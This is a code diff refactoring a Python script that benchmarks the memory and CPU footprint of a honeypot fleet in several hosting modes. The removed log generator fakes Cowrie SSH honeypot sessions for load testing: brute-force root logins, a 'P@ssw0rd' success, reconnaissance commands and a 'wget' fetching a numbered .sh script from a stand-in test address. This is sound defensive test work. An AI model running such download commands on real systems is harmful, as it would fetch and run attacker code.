@@ -18,45 +18,27 @@ from __future__ import annotations
 import argparse
 import contextlib
 import json
-import os
-import random
-import signal
-import socket
 import subprocess
 import sys
 import tempfile
 import time
-from collections.abc import Iterator, Sequence
+from collections.abc import Sequence
 from pathlib import Path
 from typing import Any, NamedTuple
 
-from decnet.drill.private import free_block, settings_text
+from footprint_fleet import Fleet, Sample, cowrie_lines
+from footprint_page import Row, page, side_by_side
+
 from decnet_core import registry
 from decnet_core.footprint import Footprint, measure
-from decnet_core.supervise.roster import Roster, read_rosters
-from decnet_models.engine import open_engine, reading
-from decnet_models.events.queries import last_seq
-from decnet_models.migrations.upgrade import upgrade
 
 MODES = ("fork", "tasks", "units")
 EVENTS_PER_SECOND = 500
-ATTACKERS = 2000
 BUNDLES_PER_SECOND = 10
 SETTLE_SECONDS = 3.0
 """Between the drill and the rest: sessions end, connections are closed."""
-DRAIN_SECONDS = 60.0
-
-AIMS = {"fork_idle_mib": 100, "fork_load_mib": 160, "fork_slope": 0.5, "units_per_worker_mib": 30, "tasks_mib": 80}
-AIM_READY_SECONDS, AIM_WAKEUPS, AIM_CPU_PERCENT = 2.0, 4.0, 0.5
-
-COLUMNS = (("pss", 7), ("uss", 7), ("wakeups", 9), ("cpu", 6))
-_NAMES = f"{'PSS':>7}{'USS':>7}{'wake-ups':>9}{'CPU':>6}"
-_SHOWN = {"pss": "PSS", "uss": "USS", "wakeups": "wake-ups/s", "cpu": "CPU %"}
-HEADING = f"{'':16}{_NAMES}   under load: {_NAMES}"
 
 MIB = 1 << 20
-Sample = dict[str, Footprint]
-Row = dict[str, float]
 
 
 class Times(NamedTuple):
@@ -100,9 +82,6 @@ def measured_by(python: Path, wanted: argparse.Namespace) -> dict[str, Any]:
     return found
 
 
-# --- one hosting ------------------------------------------------------------------------------
-
-
 def measure_mode(mode: str, times: Times) -> dict[str, object]:
     """Return everything about one hosting."""
     with tempfile.TemporaryDirectory(prefix="decnet-footprint-", ignore_cleanup_errors=True) as directory:
@@ -124,87 +103,6 @@ def measure_mode(mode: str, times: Times) -> dict[str, object]:
             "events_written": written,
             "seconds_until_all_were_in_the_database": round(behind_seconds, 1),
         }
-
-
-class Fleet:
-    """A private fleet with one collected log."""
-
-    def __init__(self, root: Path) -> None:
-        self.log = root / "cowrie.json"
-        self.log.touch()
-        self._root = root
-        self._state = root / "state"
-        self._state.mkdir()
-        self._database = f"sqlite:///{self._state / 'decnet.db'}"
-        upgrade(self._database)
-        source = f'\n[[collect.source]]\nname = "cowrie"\nformat = "cowrie"\npath = "{self.log}"\n'
-        (root / "decnet.toml").write_text(settings_text(free_block()) + source)
-        outer = {name: value for name, value in os.environ.items() if not name.startswith("DECNET_")}
-        settings = {"DECNET_STATE_DIR": str(self._state), "DECNET_SETTINGS": str(root / "decnet.toml")}
-        self._environment = outer | settings
-
-    @contextlib.contextmanager
-    def running(self, mode: str) -> Iterator[float]:
-        """Run the fleet; yield the seconds from its start until all are ready."""
-        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as told, (self._root / "log").open("wb") as log:
-            told.bind(str(self._root / "notify"))
-            told.settimeout(60)
-            began = time.monotonic()
-            process = subprocess.Popen(
-                [sys.executable, "-m", "decnet_core.supervise.command", "all", "--mode", mode],
-                env=self._environment | {"NOTIFY_SOCKET": str(self._root / "notify")},
-                stderr=log,
-            )
-            try:
-                if told.recv(100) != b"READY=1":
-                    raise SystemExit((self._root / "log").read_text())
-                yield time.monotonic() - began
-            finally:
-                process.send_signal(signal.SIGTERM)
-                process.wait(60)
-
-    def drill(self) -> None:
-        """Have everything done once; SystemExit when the fleet does not hold."""
-        done = subprocess.run(
-            [sys.executable, "-m", "decnet", "drill", "--json"],
-            env=self._environment,
-            capture_output=True,
-            text=True,
-            check=False,
-        )
-        if done.returncode != 0:
-            raise SystemExit(f"the drill does not hold:\n{done.stdout}{done.stderr}")
-
-    def sample(self) -> Sample:
-        """Measure every process of the fleet."""
-        found = {name: measure(pid) for name, pid in processes(next(iter(read_rosters(self._state / "run")))).items()}
-        return {name: one for name, one in found.items() if one is not None}
-
-    def wait_for(self, count: int) -> float:
-        """Wait until the database holds `count` events; return the seconds; SystemExit when some never come."""
-        began = time.monotonic()
-        while (found := self.events()) < count:
-            if time.monotonic() - began > DRAIN_SECONDS:
-                raise SystemExit(f"{count - found} events never came into the database")
-            time.sleep(0.1)
-        return time.monotonic() - began
-
-    def events(self) -> int:
-        """Return how many events the database holds."""
-        engine = open_engine(self._database, read_only=True)
-        with reading(engine) as connection:
-            count = last_seq(connection)
-        engine.dispose()
-        return count
-
-
-def processes(roster: Roster) -> dict[str, int]:
-    """Return the fleet's pids by name; in tasks mode there is one."""
-    named = {status.name: status.pid for status in roster.workers}
-    others = {"(supervisor)": roster.supervisor, "(zygote)": roster.zygote}
-    if set(named.values()) == {roster.supervisor}:
-        return {"(all in one)": roster.supervisor}
-    return {name: pid for name, pid in (named | others).items() if pid}
 
 
 def watched(fleet: Fleet, seconds: float) -> dict[str, Row]:
@@ -237,33 +135,6 @@ def slope_of(points: list[tuple[float, float]]) -> float:
     y_mean = sum(y for _, y in points) / len(points)
     spread = sum((x - x_mean) ** 2 for x, _ in points)
     return sum((x - x_mean) * (y - y_mean) for x, y in points) / spread if spread else 0.0
-
-
-def cowrie_lines() -> Iterator[bytes]:
-    """Yield log lines as Cowrie writes them: sessions of many attackers, each a few guesses and commands."""
-    chance = random.Random(4)
-    while True:
-        number = chance.randrange(ATTACKERS)
-        session = {"src_ip": f"198.18.{number >> 8}.{number & 255}", "session": f"{chance.getrandbits(48):012x}"}
-        yield cowrie_line("session.connect", session, src_port=chance.randrange(1024, 65536), dst_port=2222)
-        for _ in range(chance.randrange(1, 6)):
-            password = f"secret-{chance.randrange(5000)}"
-            yield cowrie_line("login.failed", session, username="root", password=password)
-        yield cowrie_line("login.success", session, username="root", password="P@ssw0rd")
-        for command in ("uname -a", "cat /proc/cpuinfo", f"wget http://198.18.0.1/{chance.randrange(500)}.sh"):
-            yield cowrie_line("command.input", session, input=command)
-        yield cowrie_line("session.closed", session, duration="12.5")
-
-
-def cowrie_line(event: str, session: dict[str, str], **fields: object) -> bytes:
-    """Return one line of the log, dated now."""
-    now = time.time()
-    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int(now % 1 * 1e6):06d}Z"
-    common = {"eventid": f"cowrie.{event}", "sensor": "cowrie-1", "protocol": "ssh", "timestamp": stamp}
-    return json.dumps({**common, "message": event, **session, **fields}).encode() + b"\n"
-
-
-# --- figures ----------------------------------------------------------------------------------
 
 
 def rows(before: Sample, after: Sample, seconds: float) -> dict[str, Row]:
@@ -315,79 +186,6 @@ def bare(code: str, count: int) -> Row:
         after = {str(process.pid): measure(process.pid) for process in started}
         pairs = [(before[pid], now) for pid, now in after.items()]
         return total({str(now.pid): row(then, now, 1) for then, now in pairs if then and now})
-
-
-# --- text -------------------------------------------------------------------------------------
-
-
-def side_by_side(found: Sequence[dict[str, Any]]) -> str:
-    """Return the totals of each interpreter in a column of its own."""
-    lines = [f"{'MiB in all':34}" + "".join(f"{one['python']:>9}" for one in found)]
-    lines += [_across(f"{name}, PSS", [one["bare"][name]["pss"] for one in found]) for name in found[0]["bare"]]
-    for mode in found[0]["modes"]:
-        runs = [one["modes"][mode] for one in found]
-        lines.append(_across(f"{mode}, seconds until all are ready", [run["ready_seconds"] for run in runs]))
-        for when in ("idle", "load"):
-            for key, _ in COLUMNS:
-                lines.append(_across(f"{mode}, {when}, {_SHOWN[key]}", [run[f"{when}_total"][key] for run in runs]))
-        lines.append(_across(f"{mode}, slope in MiB/min", [run["slope_mib_per_minute"] for run in runs]))
-    return "\n".join(lines)
-
-
-def _across(name: str, figures: Sequence[float]) -> str:
-    return f"{name:34}" + "".join(f"{figure:9.1f}" for figure in figures)
-
-
-def page(found: dict[str, Any]) -> str:
-    """Return the tables and the verdicts."""
-    modes, bare_totals = found["modes"], found["bare"]
-    lines = [f"Python {found['python']}; MiB, wake-ups per second, CPU in % of a core", ""]
-    lines += [line(name, one) for name, one in bare_totals.items()]
-    for mode, one in modes.items():
-        lines += ["", f"{mode}: all ready after {one['ready_seconds']} s", HEADING]
-        for name in one["idle"]:
-            lines.append(line(name, one["idle"][name], one["load"].get(name)))
-        lines.append(line("total", one["idle_total"], one["load_total"]))
-        late = one["seconds_until_all_were_in_the_database"]
-        told = f"{one['events_written']} log lines written, all in the database {late} s later"
-        lines.append(f"slope under load {one['slope_mib_per_minute']} MiB/min; {told}")
-    return "\n".join([*lines, "", *(f"{verdict:8} {text}" for verdict, text in verdicts(modes))])
-
-
-def line(name: str, idle: Row, load: Row | None = None) -> str:
-    """Return one line of the table."""
-    shown = f"{name:16}" + "".join(f"{idle[key]:>{width}.1f}" for key, width in COLUMNS)
-    return shown + (" " * 15 + "".join(f"{load[key]:>{width}.1f}" for key, width in COLUMNS) if load else "")
-
-
-def verdicts(modes: dict[str, dict[str, object]]) -> Iterator[tuple[str, str]]:
-    """Yield each aim, with the figure and whether it is met."""
-    for text, figure, aim in aims(modes):
-        yield ("met" if figure <= aim else "NOT MET"), f"{text}: {figure:.2f}, aim at most {aim}"
-
-
-def aims(modes: dict[str, dict[str, object]]) -> Iterator[tuple[str, float, float]]:
-    """Yield a sentence, the figure and the aim."""
-    for mode, one in modes.items():
-        idle, load, each = one["idle_total"], one["load_total"], one["idle"]
-        assert isinstance(idle, dict)
-        assert isinstance(load, dict)
-        assert isinstance(each, dict)
-        ready, slope = one["ready_seconds"], one["slope_mib_per_minute"]
-        assert isinstance(ready, float)
-        assert isinstance(slope, float)
-        if mode == "fork":
-            yield "fork, idle, MiB PSS in all", idle["pss"], AIMS["fork_idle_mib"]
-            yield "fork, under load, MiB PSS in all", load["pss"], AIMS["fork_load_mib"]
-            yield "fork, slope under load, MiB/min", slope, AIMS["fork_slope"]
-        if mode == "units":
-            workers = [figures["pss"] for name, figures in each.items() if not name.startswith("(")]
-            yield "units, MiB PSS per worker", sum(workers) / len(workers), AIMS["units_per_worker_mib"]
-        if mode == "tasks":
-            yield "tasks, idle, MiB PSS", idle["pss"], AIMS["tasks_mib"]
-        yield f"{mode}, seconds until all are ready", ready, AIM_READY_SECONDS
-        yield f"{mode}, idle, wake-ups per second", idle["wakeups"], AIM_WAKEUPS
-        yield f"{mode}, idle, CPU % of a core", idle["cpu"], AIM_CPU_PERCENT
 
 
 if __name__ == "__main__":
